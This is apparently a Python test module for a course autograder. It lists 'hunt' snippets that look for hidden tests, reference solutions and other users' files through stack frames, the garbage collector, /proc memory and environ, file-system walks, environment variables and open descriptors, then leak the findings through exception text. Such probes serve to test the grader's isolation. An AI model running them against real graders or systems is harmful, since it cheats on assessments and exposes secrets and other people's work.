"""Hunts for references, hidden tests and other people's work: in frames, memory, files and the environment."""

from grading.classroom.attack import Attack

FAMILY = "hunts"


def _hunt(name: str, tries: str, code: str, **more) -> Attack:
    """Hunt where the cell runs, and again where a check calls."""
    code = "def hunt():\n    found = []\n" + "".join(f"    {line}\n" for line in code.strip("\n").splitlines())
    code += "    return found\n"
    body = "found = hunt()\nraise ValueError(str(found)[:100_000])"
    return Attack(name, FAMILY, tries, prelude=code + "print(hunt())", body=body, **more)


ATTACKS = [
    _hunt(
        "frames",
        "Walks up the frames and reads all their variables.",
        """
import sys
frame = sys._getframe()
while frame:
    found.append((frame.f_code.co_filename, repr(frame.f_locals), repr(frame.f_globals)))
    frame = frame.f_back
""",
    ),
    _hunt(
        "the stack",
        "Reads the source text of all callers.",
        """
import inspect
for entry in inspect.stack(context=50):
    found.append((entry.filename, entry.code_context))
""",
    ),
    _hunt(
        "other threads",
        "Reads the frames of all threads.",
        """
import sys, traceback
for frame in sys._current_frames().values():
    found.append((traceback.format_stack(frame), frame.f_locals))
""",
    ),
    _hunt(
        "a traceback",
        "Raises and reads the frames of the traceback.",
        """
import traceback
try:
    1 / 0
except ZeroDivisionError as error:
    found.append(traceback.format_exc())
    found.append([f.f_locals for f, _ in traceback.walk_tb(error.__traceback__)])
""",
    ),
    _hunt(
        "the garbage collector",
        "Looks through all objects for tests, references and texts.",
        """
import gc, types
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType):
        if thing.__name__.startswith("test_") or thing.__code__.co_filename.endswith("(solution)"):
            found.append((thing.__name__, thing.__code__.co_consts))
    elif isinstance(thing, dict):
        found += [v for v in thing.values() if isinstance(v, str) and "HIDDEN TESTS" in v][:3]
""",
    ),
    _hunt(
        "loaded modules",
        "Looks for the judge among the loaded modules.",
        """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith(("grading", "solutions", "__main__")):
        found.append((name, sorted(vars(module))))
""",
    ),
    _hunt(
        "the judge",
        "Imports the judge and asks it for the reference.",
        """
try:
    from pathlib import Path
    from grading import judge, source
    for file in Path(judge.SOLUTIONS).rglob("*.py"):
        found.append(file.read_text())
except BaseException as error:
    found.append(type(error).__name__)
""",
    ),
    _hunt(
        "/proc",
        "Reads what /proc tells of all processes: command lines, environments, memory.",
        """
import os
for process in [*os.listdir("/proc"), "self", "1", "2", "thread-self"]:
    for file in ("cmdline", "environ", "maps", "mem", "root/etc/passwd", "cwd", "fd"):
        try:
            found.append(open(f"/proc/{process}/{file}", "rb").read(5000))
        except OSError:
            pass
""",
    ),
    _hunt(
        "the file system",
        "Walks the whole disk for solutions, notebooks and gradebooks.",
        """
import os
for folder, folders, files in os.walk("/"):
    for file in files:
        path = os.path.join(folder, file)
        if file.endswith((".ipynb", ".db", ".sqlite")) or "solution" in path or "feedback" in path:
            if "site-packages" not in path and not path.startswith("/usr"):
                found.append((path, open(path, "rb").read(20_000)))
""",
    ),
    _hunt(
        "above the environment",
        "Looks beside the Python environment for the course.",
        """
import os, sys, glob
for base in (sys.prefix, sys.executable, "/course", os.getcwd(), "/root", "/home", "/var", "/mnt", "/tmp"):
    for up in ("..", "../..", "../../solutions", "../solutions"):
        found += glob.glob(os.path.join(base, up, "*")) + glob.glob(os.path.join(base, up, "**/*.ipynb"))
""",
    ),
    _hunt(
        "the installed package's address",
        "Asks the package's metadata where the course lies, and reads it.",
        """
import importlib.metadata, os
for file in importlib.metadata.files("mlcourse") or []:
    try:
        found.append(file.read_text()[:3000])
    except Exception:
        pass
for top in os.listdir("/"):
    for path, folders, files in os.walk("/" + top) if top not in ("usr", "proc", "dev") else ():
        folders[:] = [f for f in folders if f not in ("site-packages", "lib", "include")]
        found += [open(os.path.join(path, f)).read() for f in files if f.startswith("0") and f.endswith(".py")]
""",
    ),
    _hunt(
        "the environment",
        "Prints all variables of the environment and of configuration.",
        """
import os, sys, sysconfig
found += [dict(os.environ), sys.argv, sys.orig_argv, sys.path, os.getlogin if False else os.getuid()]
""",
    ),
    _hunt(
        "open descriptors",
        "Reads from and asks about every open descriptor.",
        """
import os, stat
for number in range(256):
    try:
        kind = os.fstat(number).st_mode
    except OSError:
        continue
    found.append((number, stat.S_IFMT(kind)))
    if stat.S_ISREG(kind) or stat.S_ISDIR(kind):
        found.append(os.listdir(number) if stat.S_ISDIR(kind) else os.pread(number, 5000, 0))
""",
    ),
    _hunt(
        "raw memory",
        "Reads its own memory for words of hidden tests.",
        """
import ctypes, gc, re
found += [bytes(b)[:2000] for b in gc.get_objects() if isinstance(b, (bytearray, memoryview))]
try:
    with open("/proc/self/mem", "rb") as memory:
        found.append(memory.read(100))
except OSError:
    pass
""",
    ),
    _hunt(
        "other users' files",
        "Looks for what other submissions have left.",
        """
import os
for folder in ("/tmp", "/home", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue"):
    for path, _, files in os.walk(folder):
        found += [(path, f, open(os.path.join(path, f), errors="replace").read(1000)) for f in files]
""",
    ),
    _hunt(
        "history",
        "Reads the history and the temporary files of IPython.",
        """
import glob
found += [get_ipython().history_manager.__dict__, glob.glob("/home/**/*", recursive=True)]
""",
        verdict="",
    ),
    _hunt(
        "the shell's namespace",
        "Looks for names that checks have defined.",
        """
ip = get_ipython()
found += [k for k in ip.user_ns if k.startswith(("test_", "reference", "expected"))]
found += [repr(ip.user_global_ns.get("reference")), ip.compile._filename_map]
""",
    ),
]
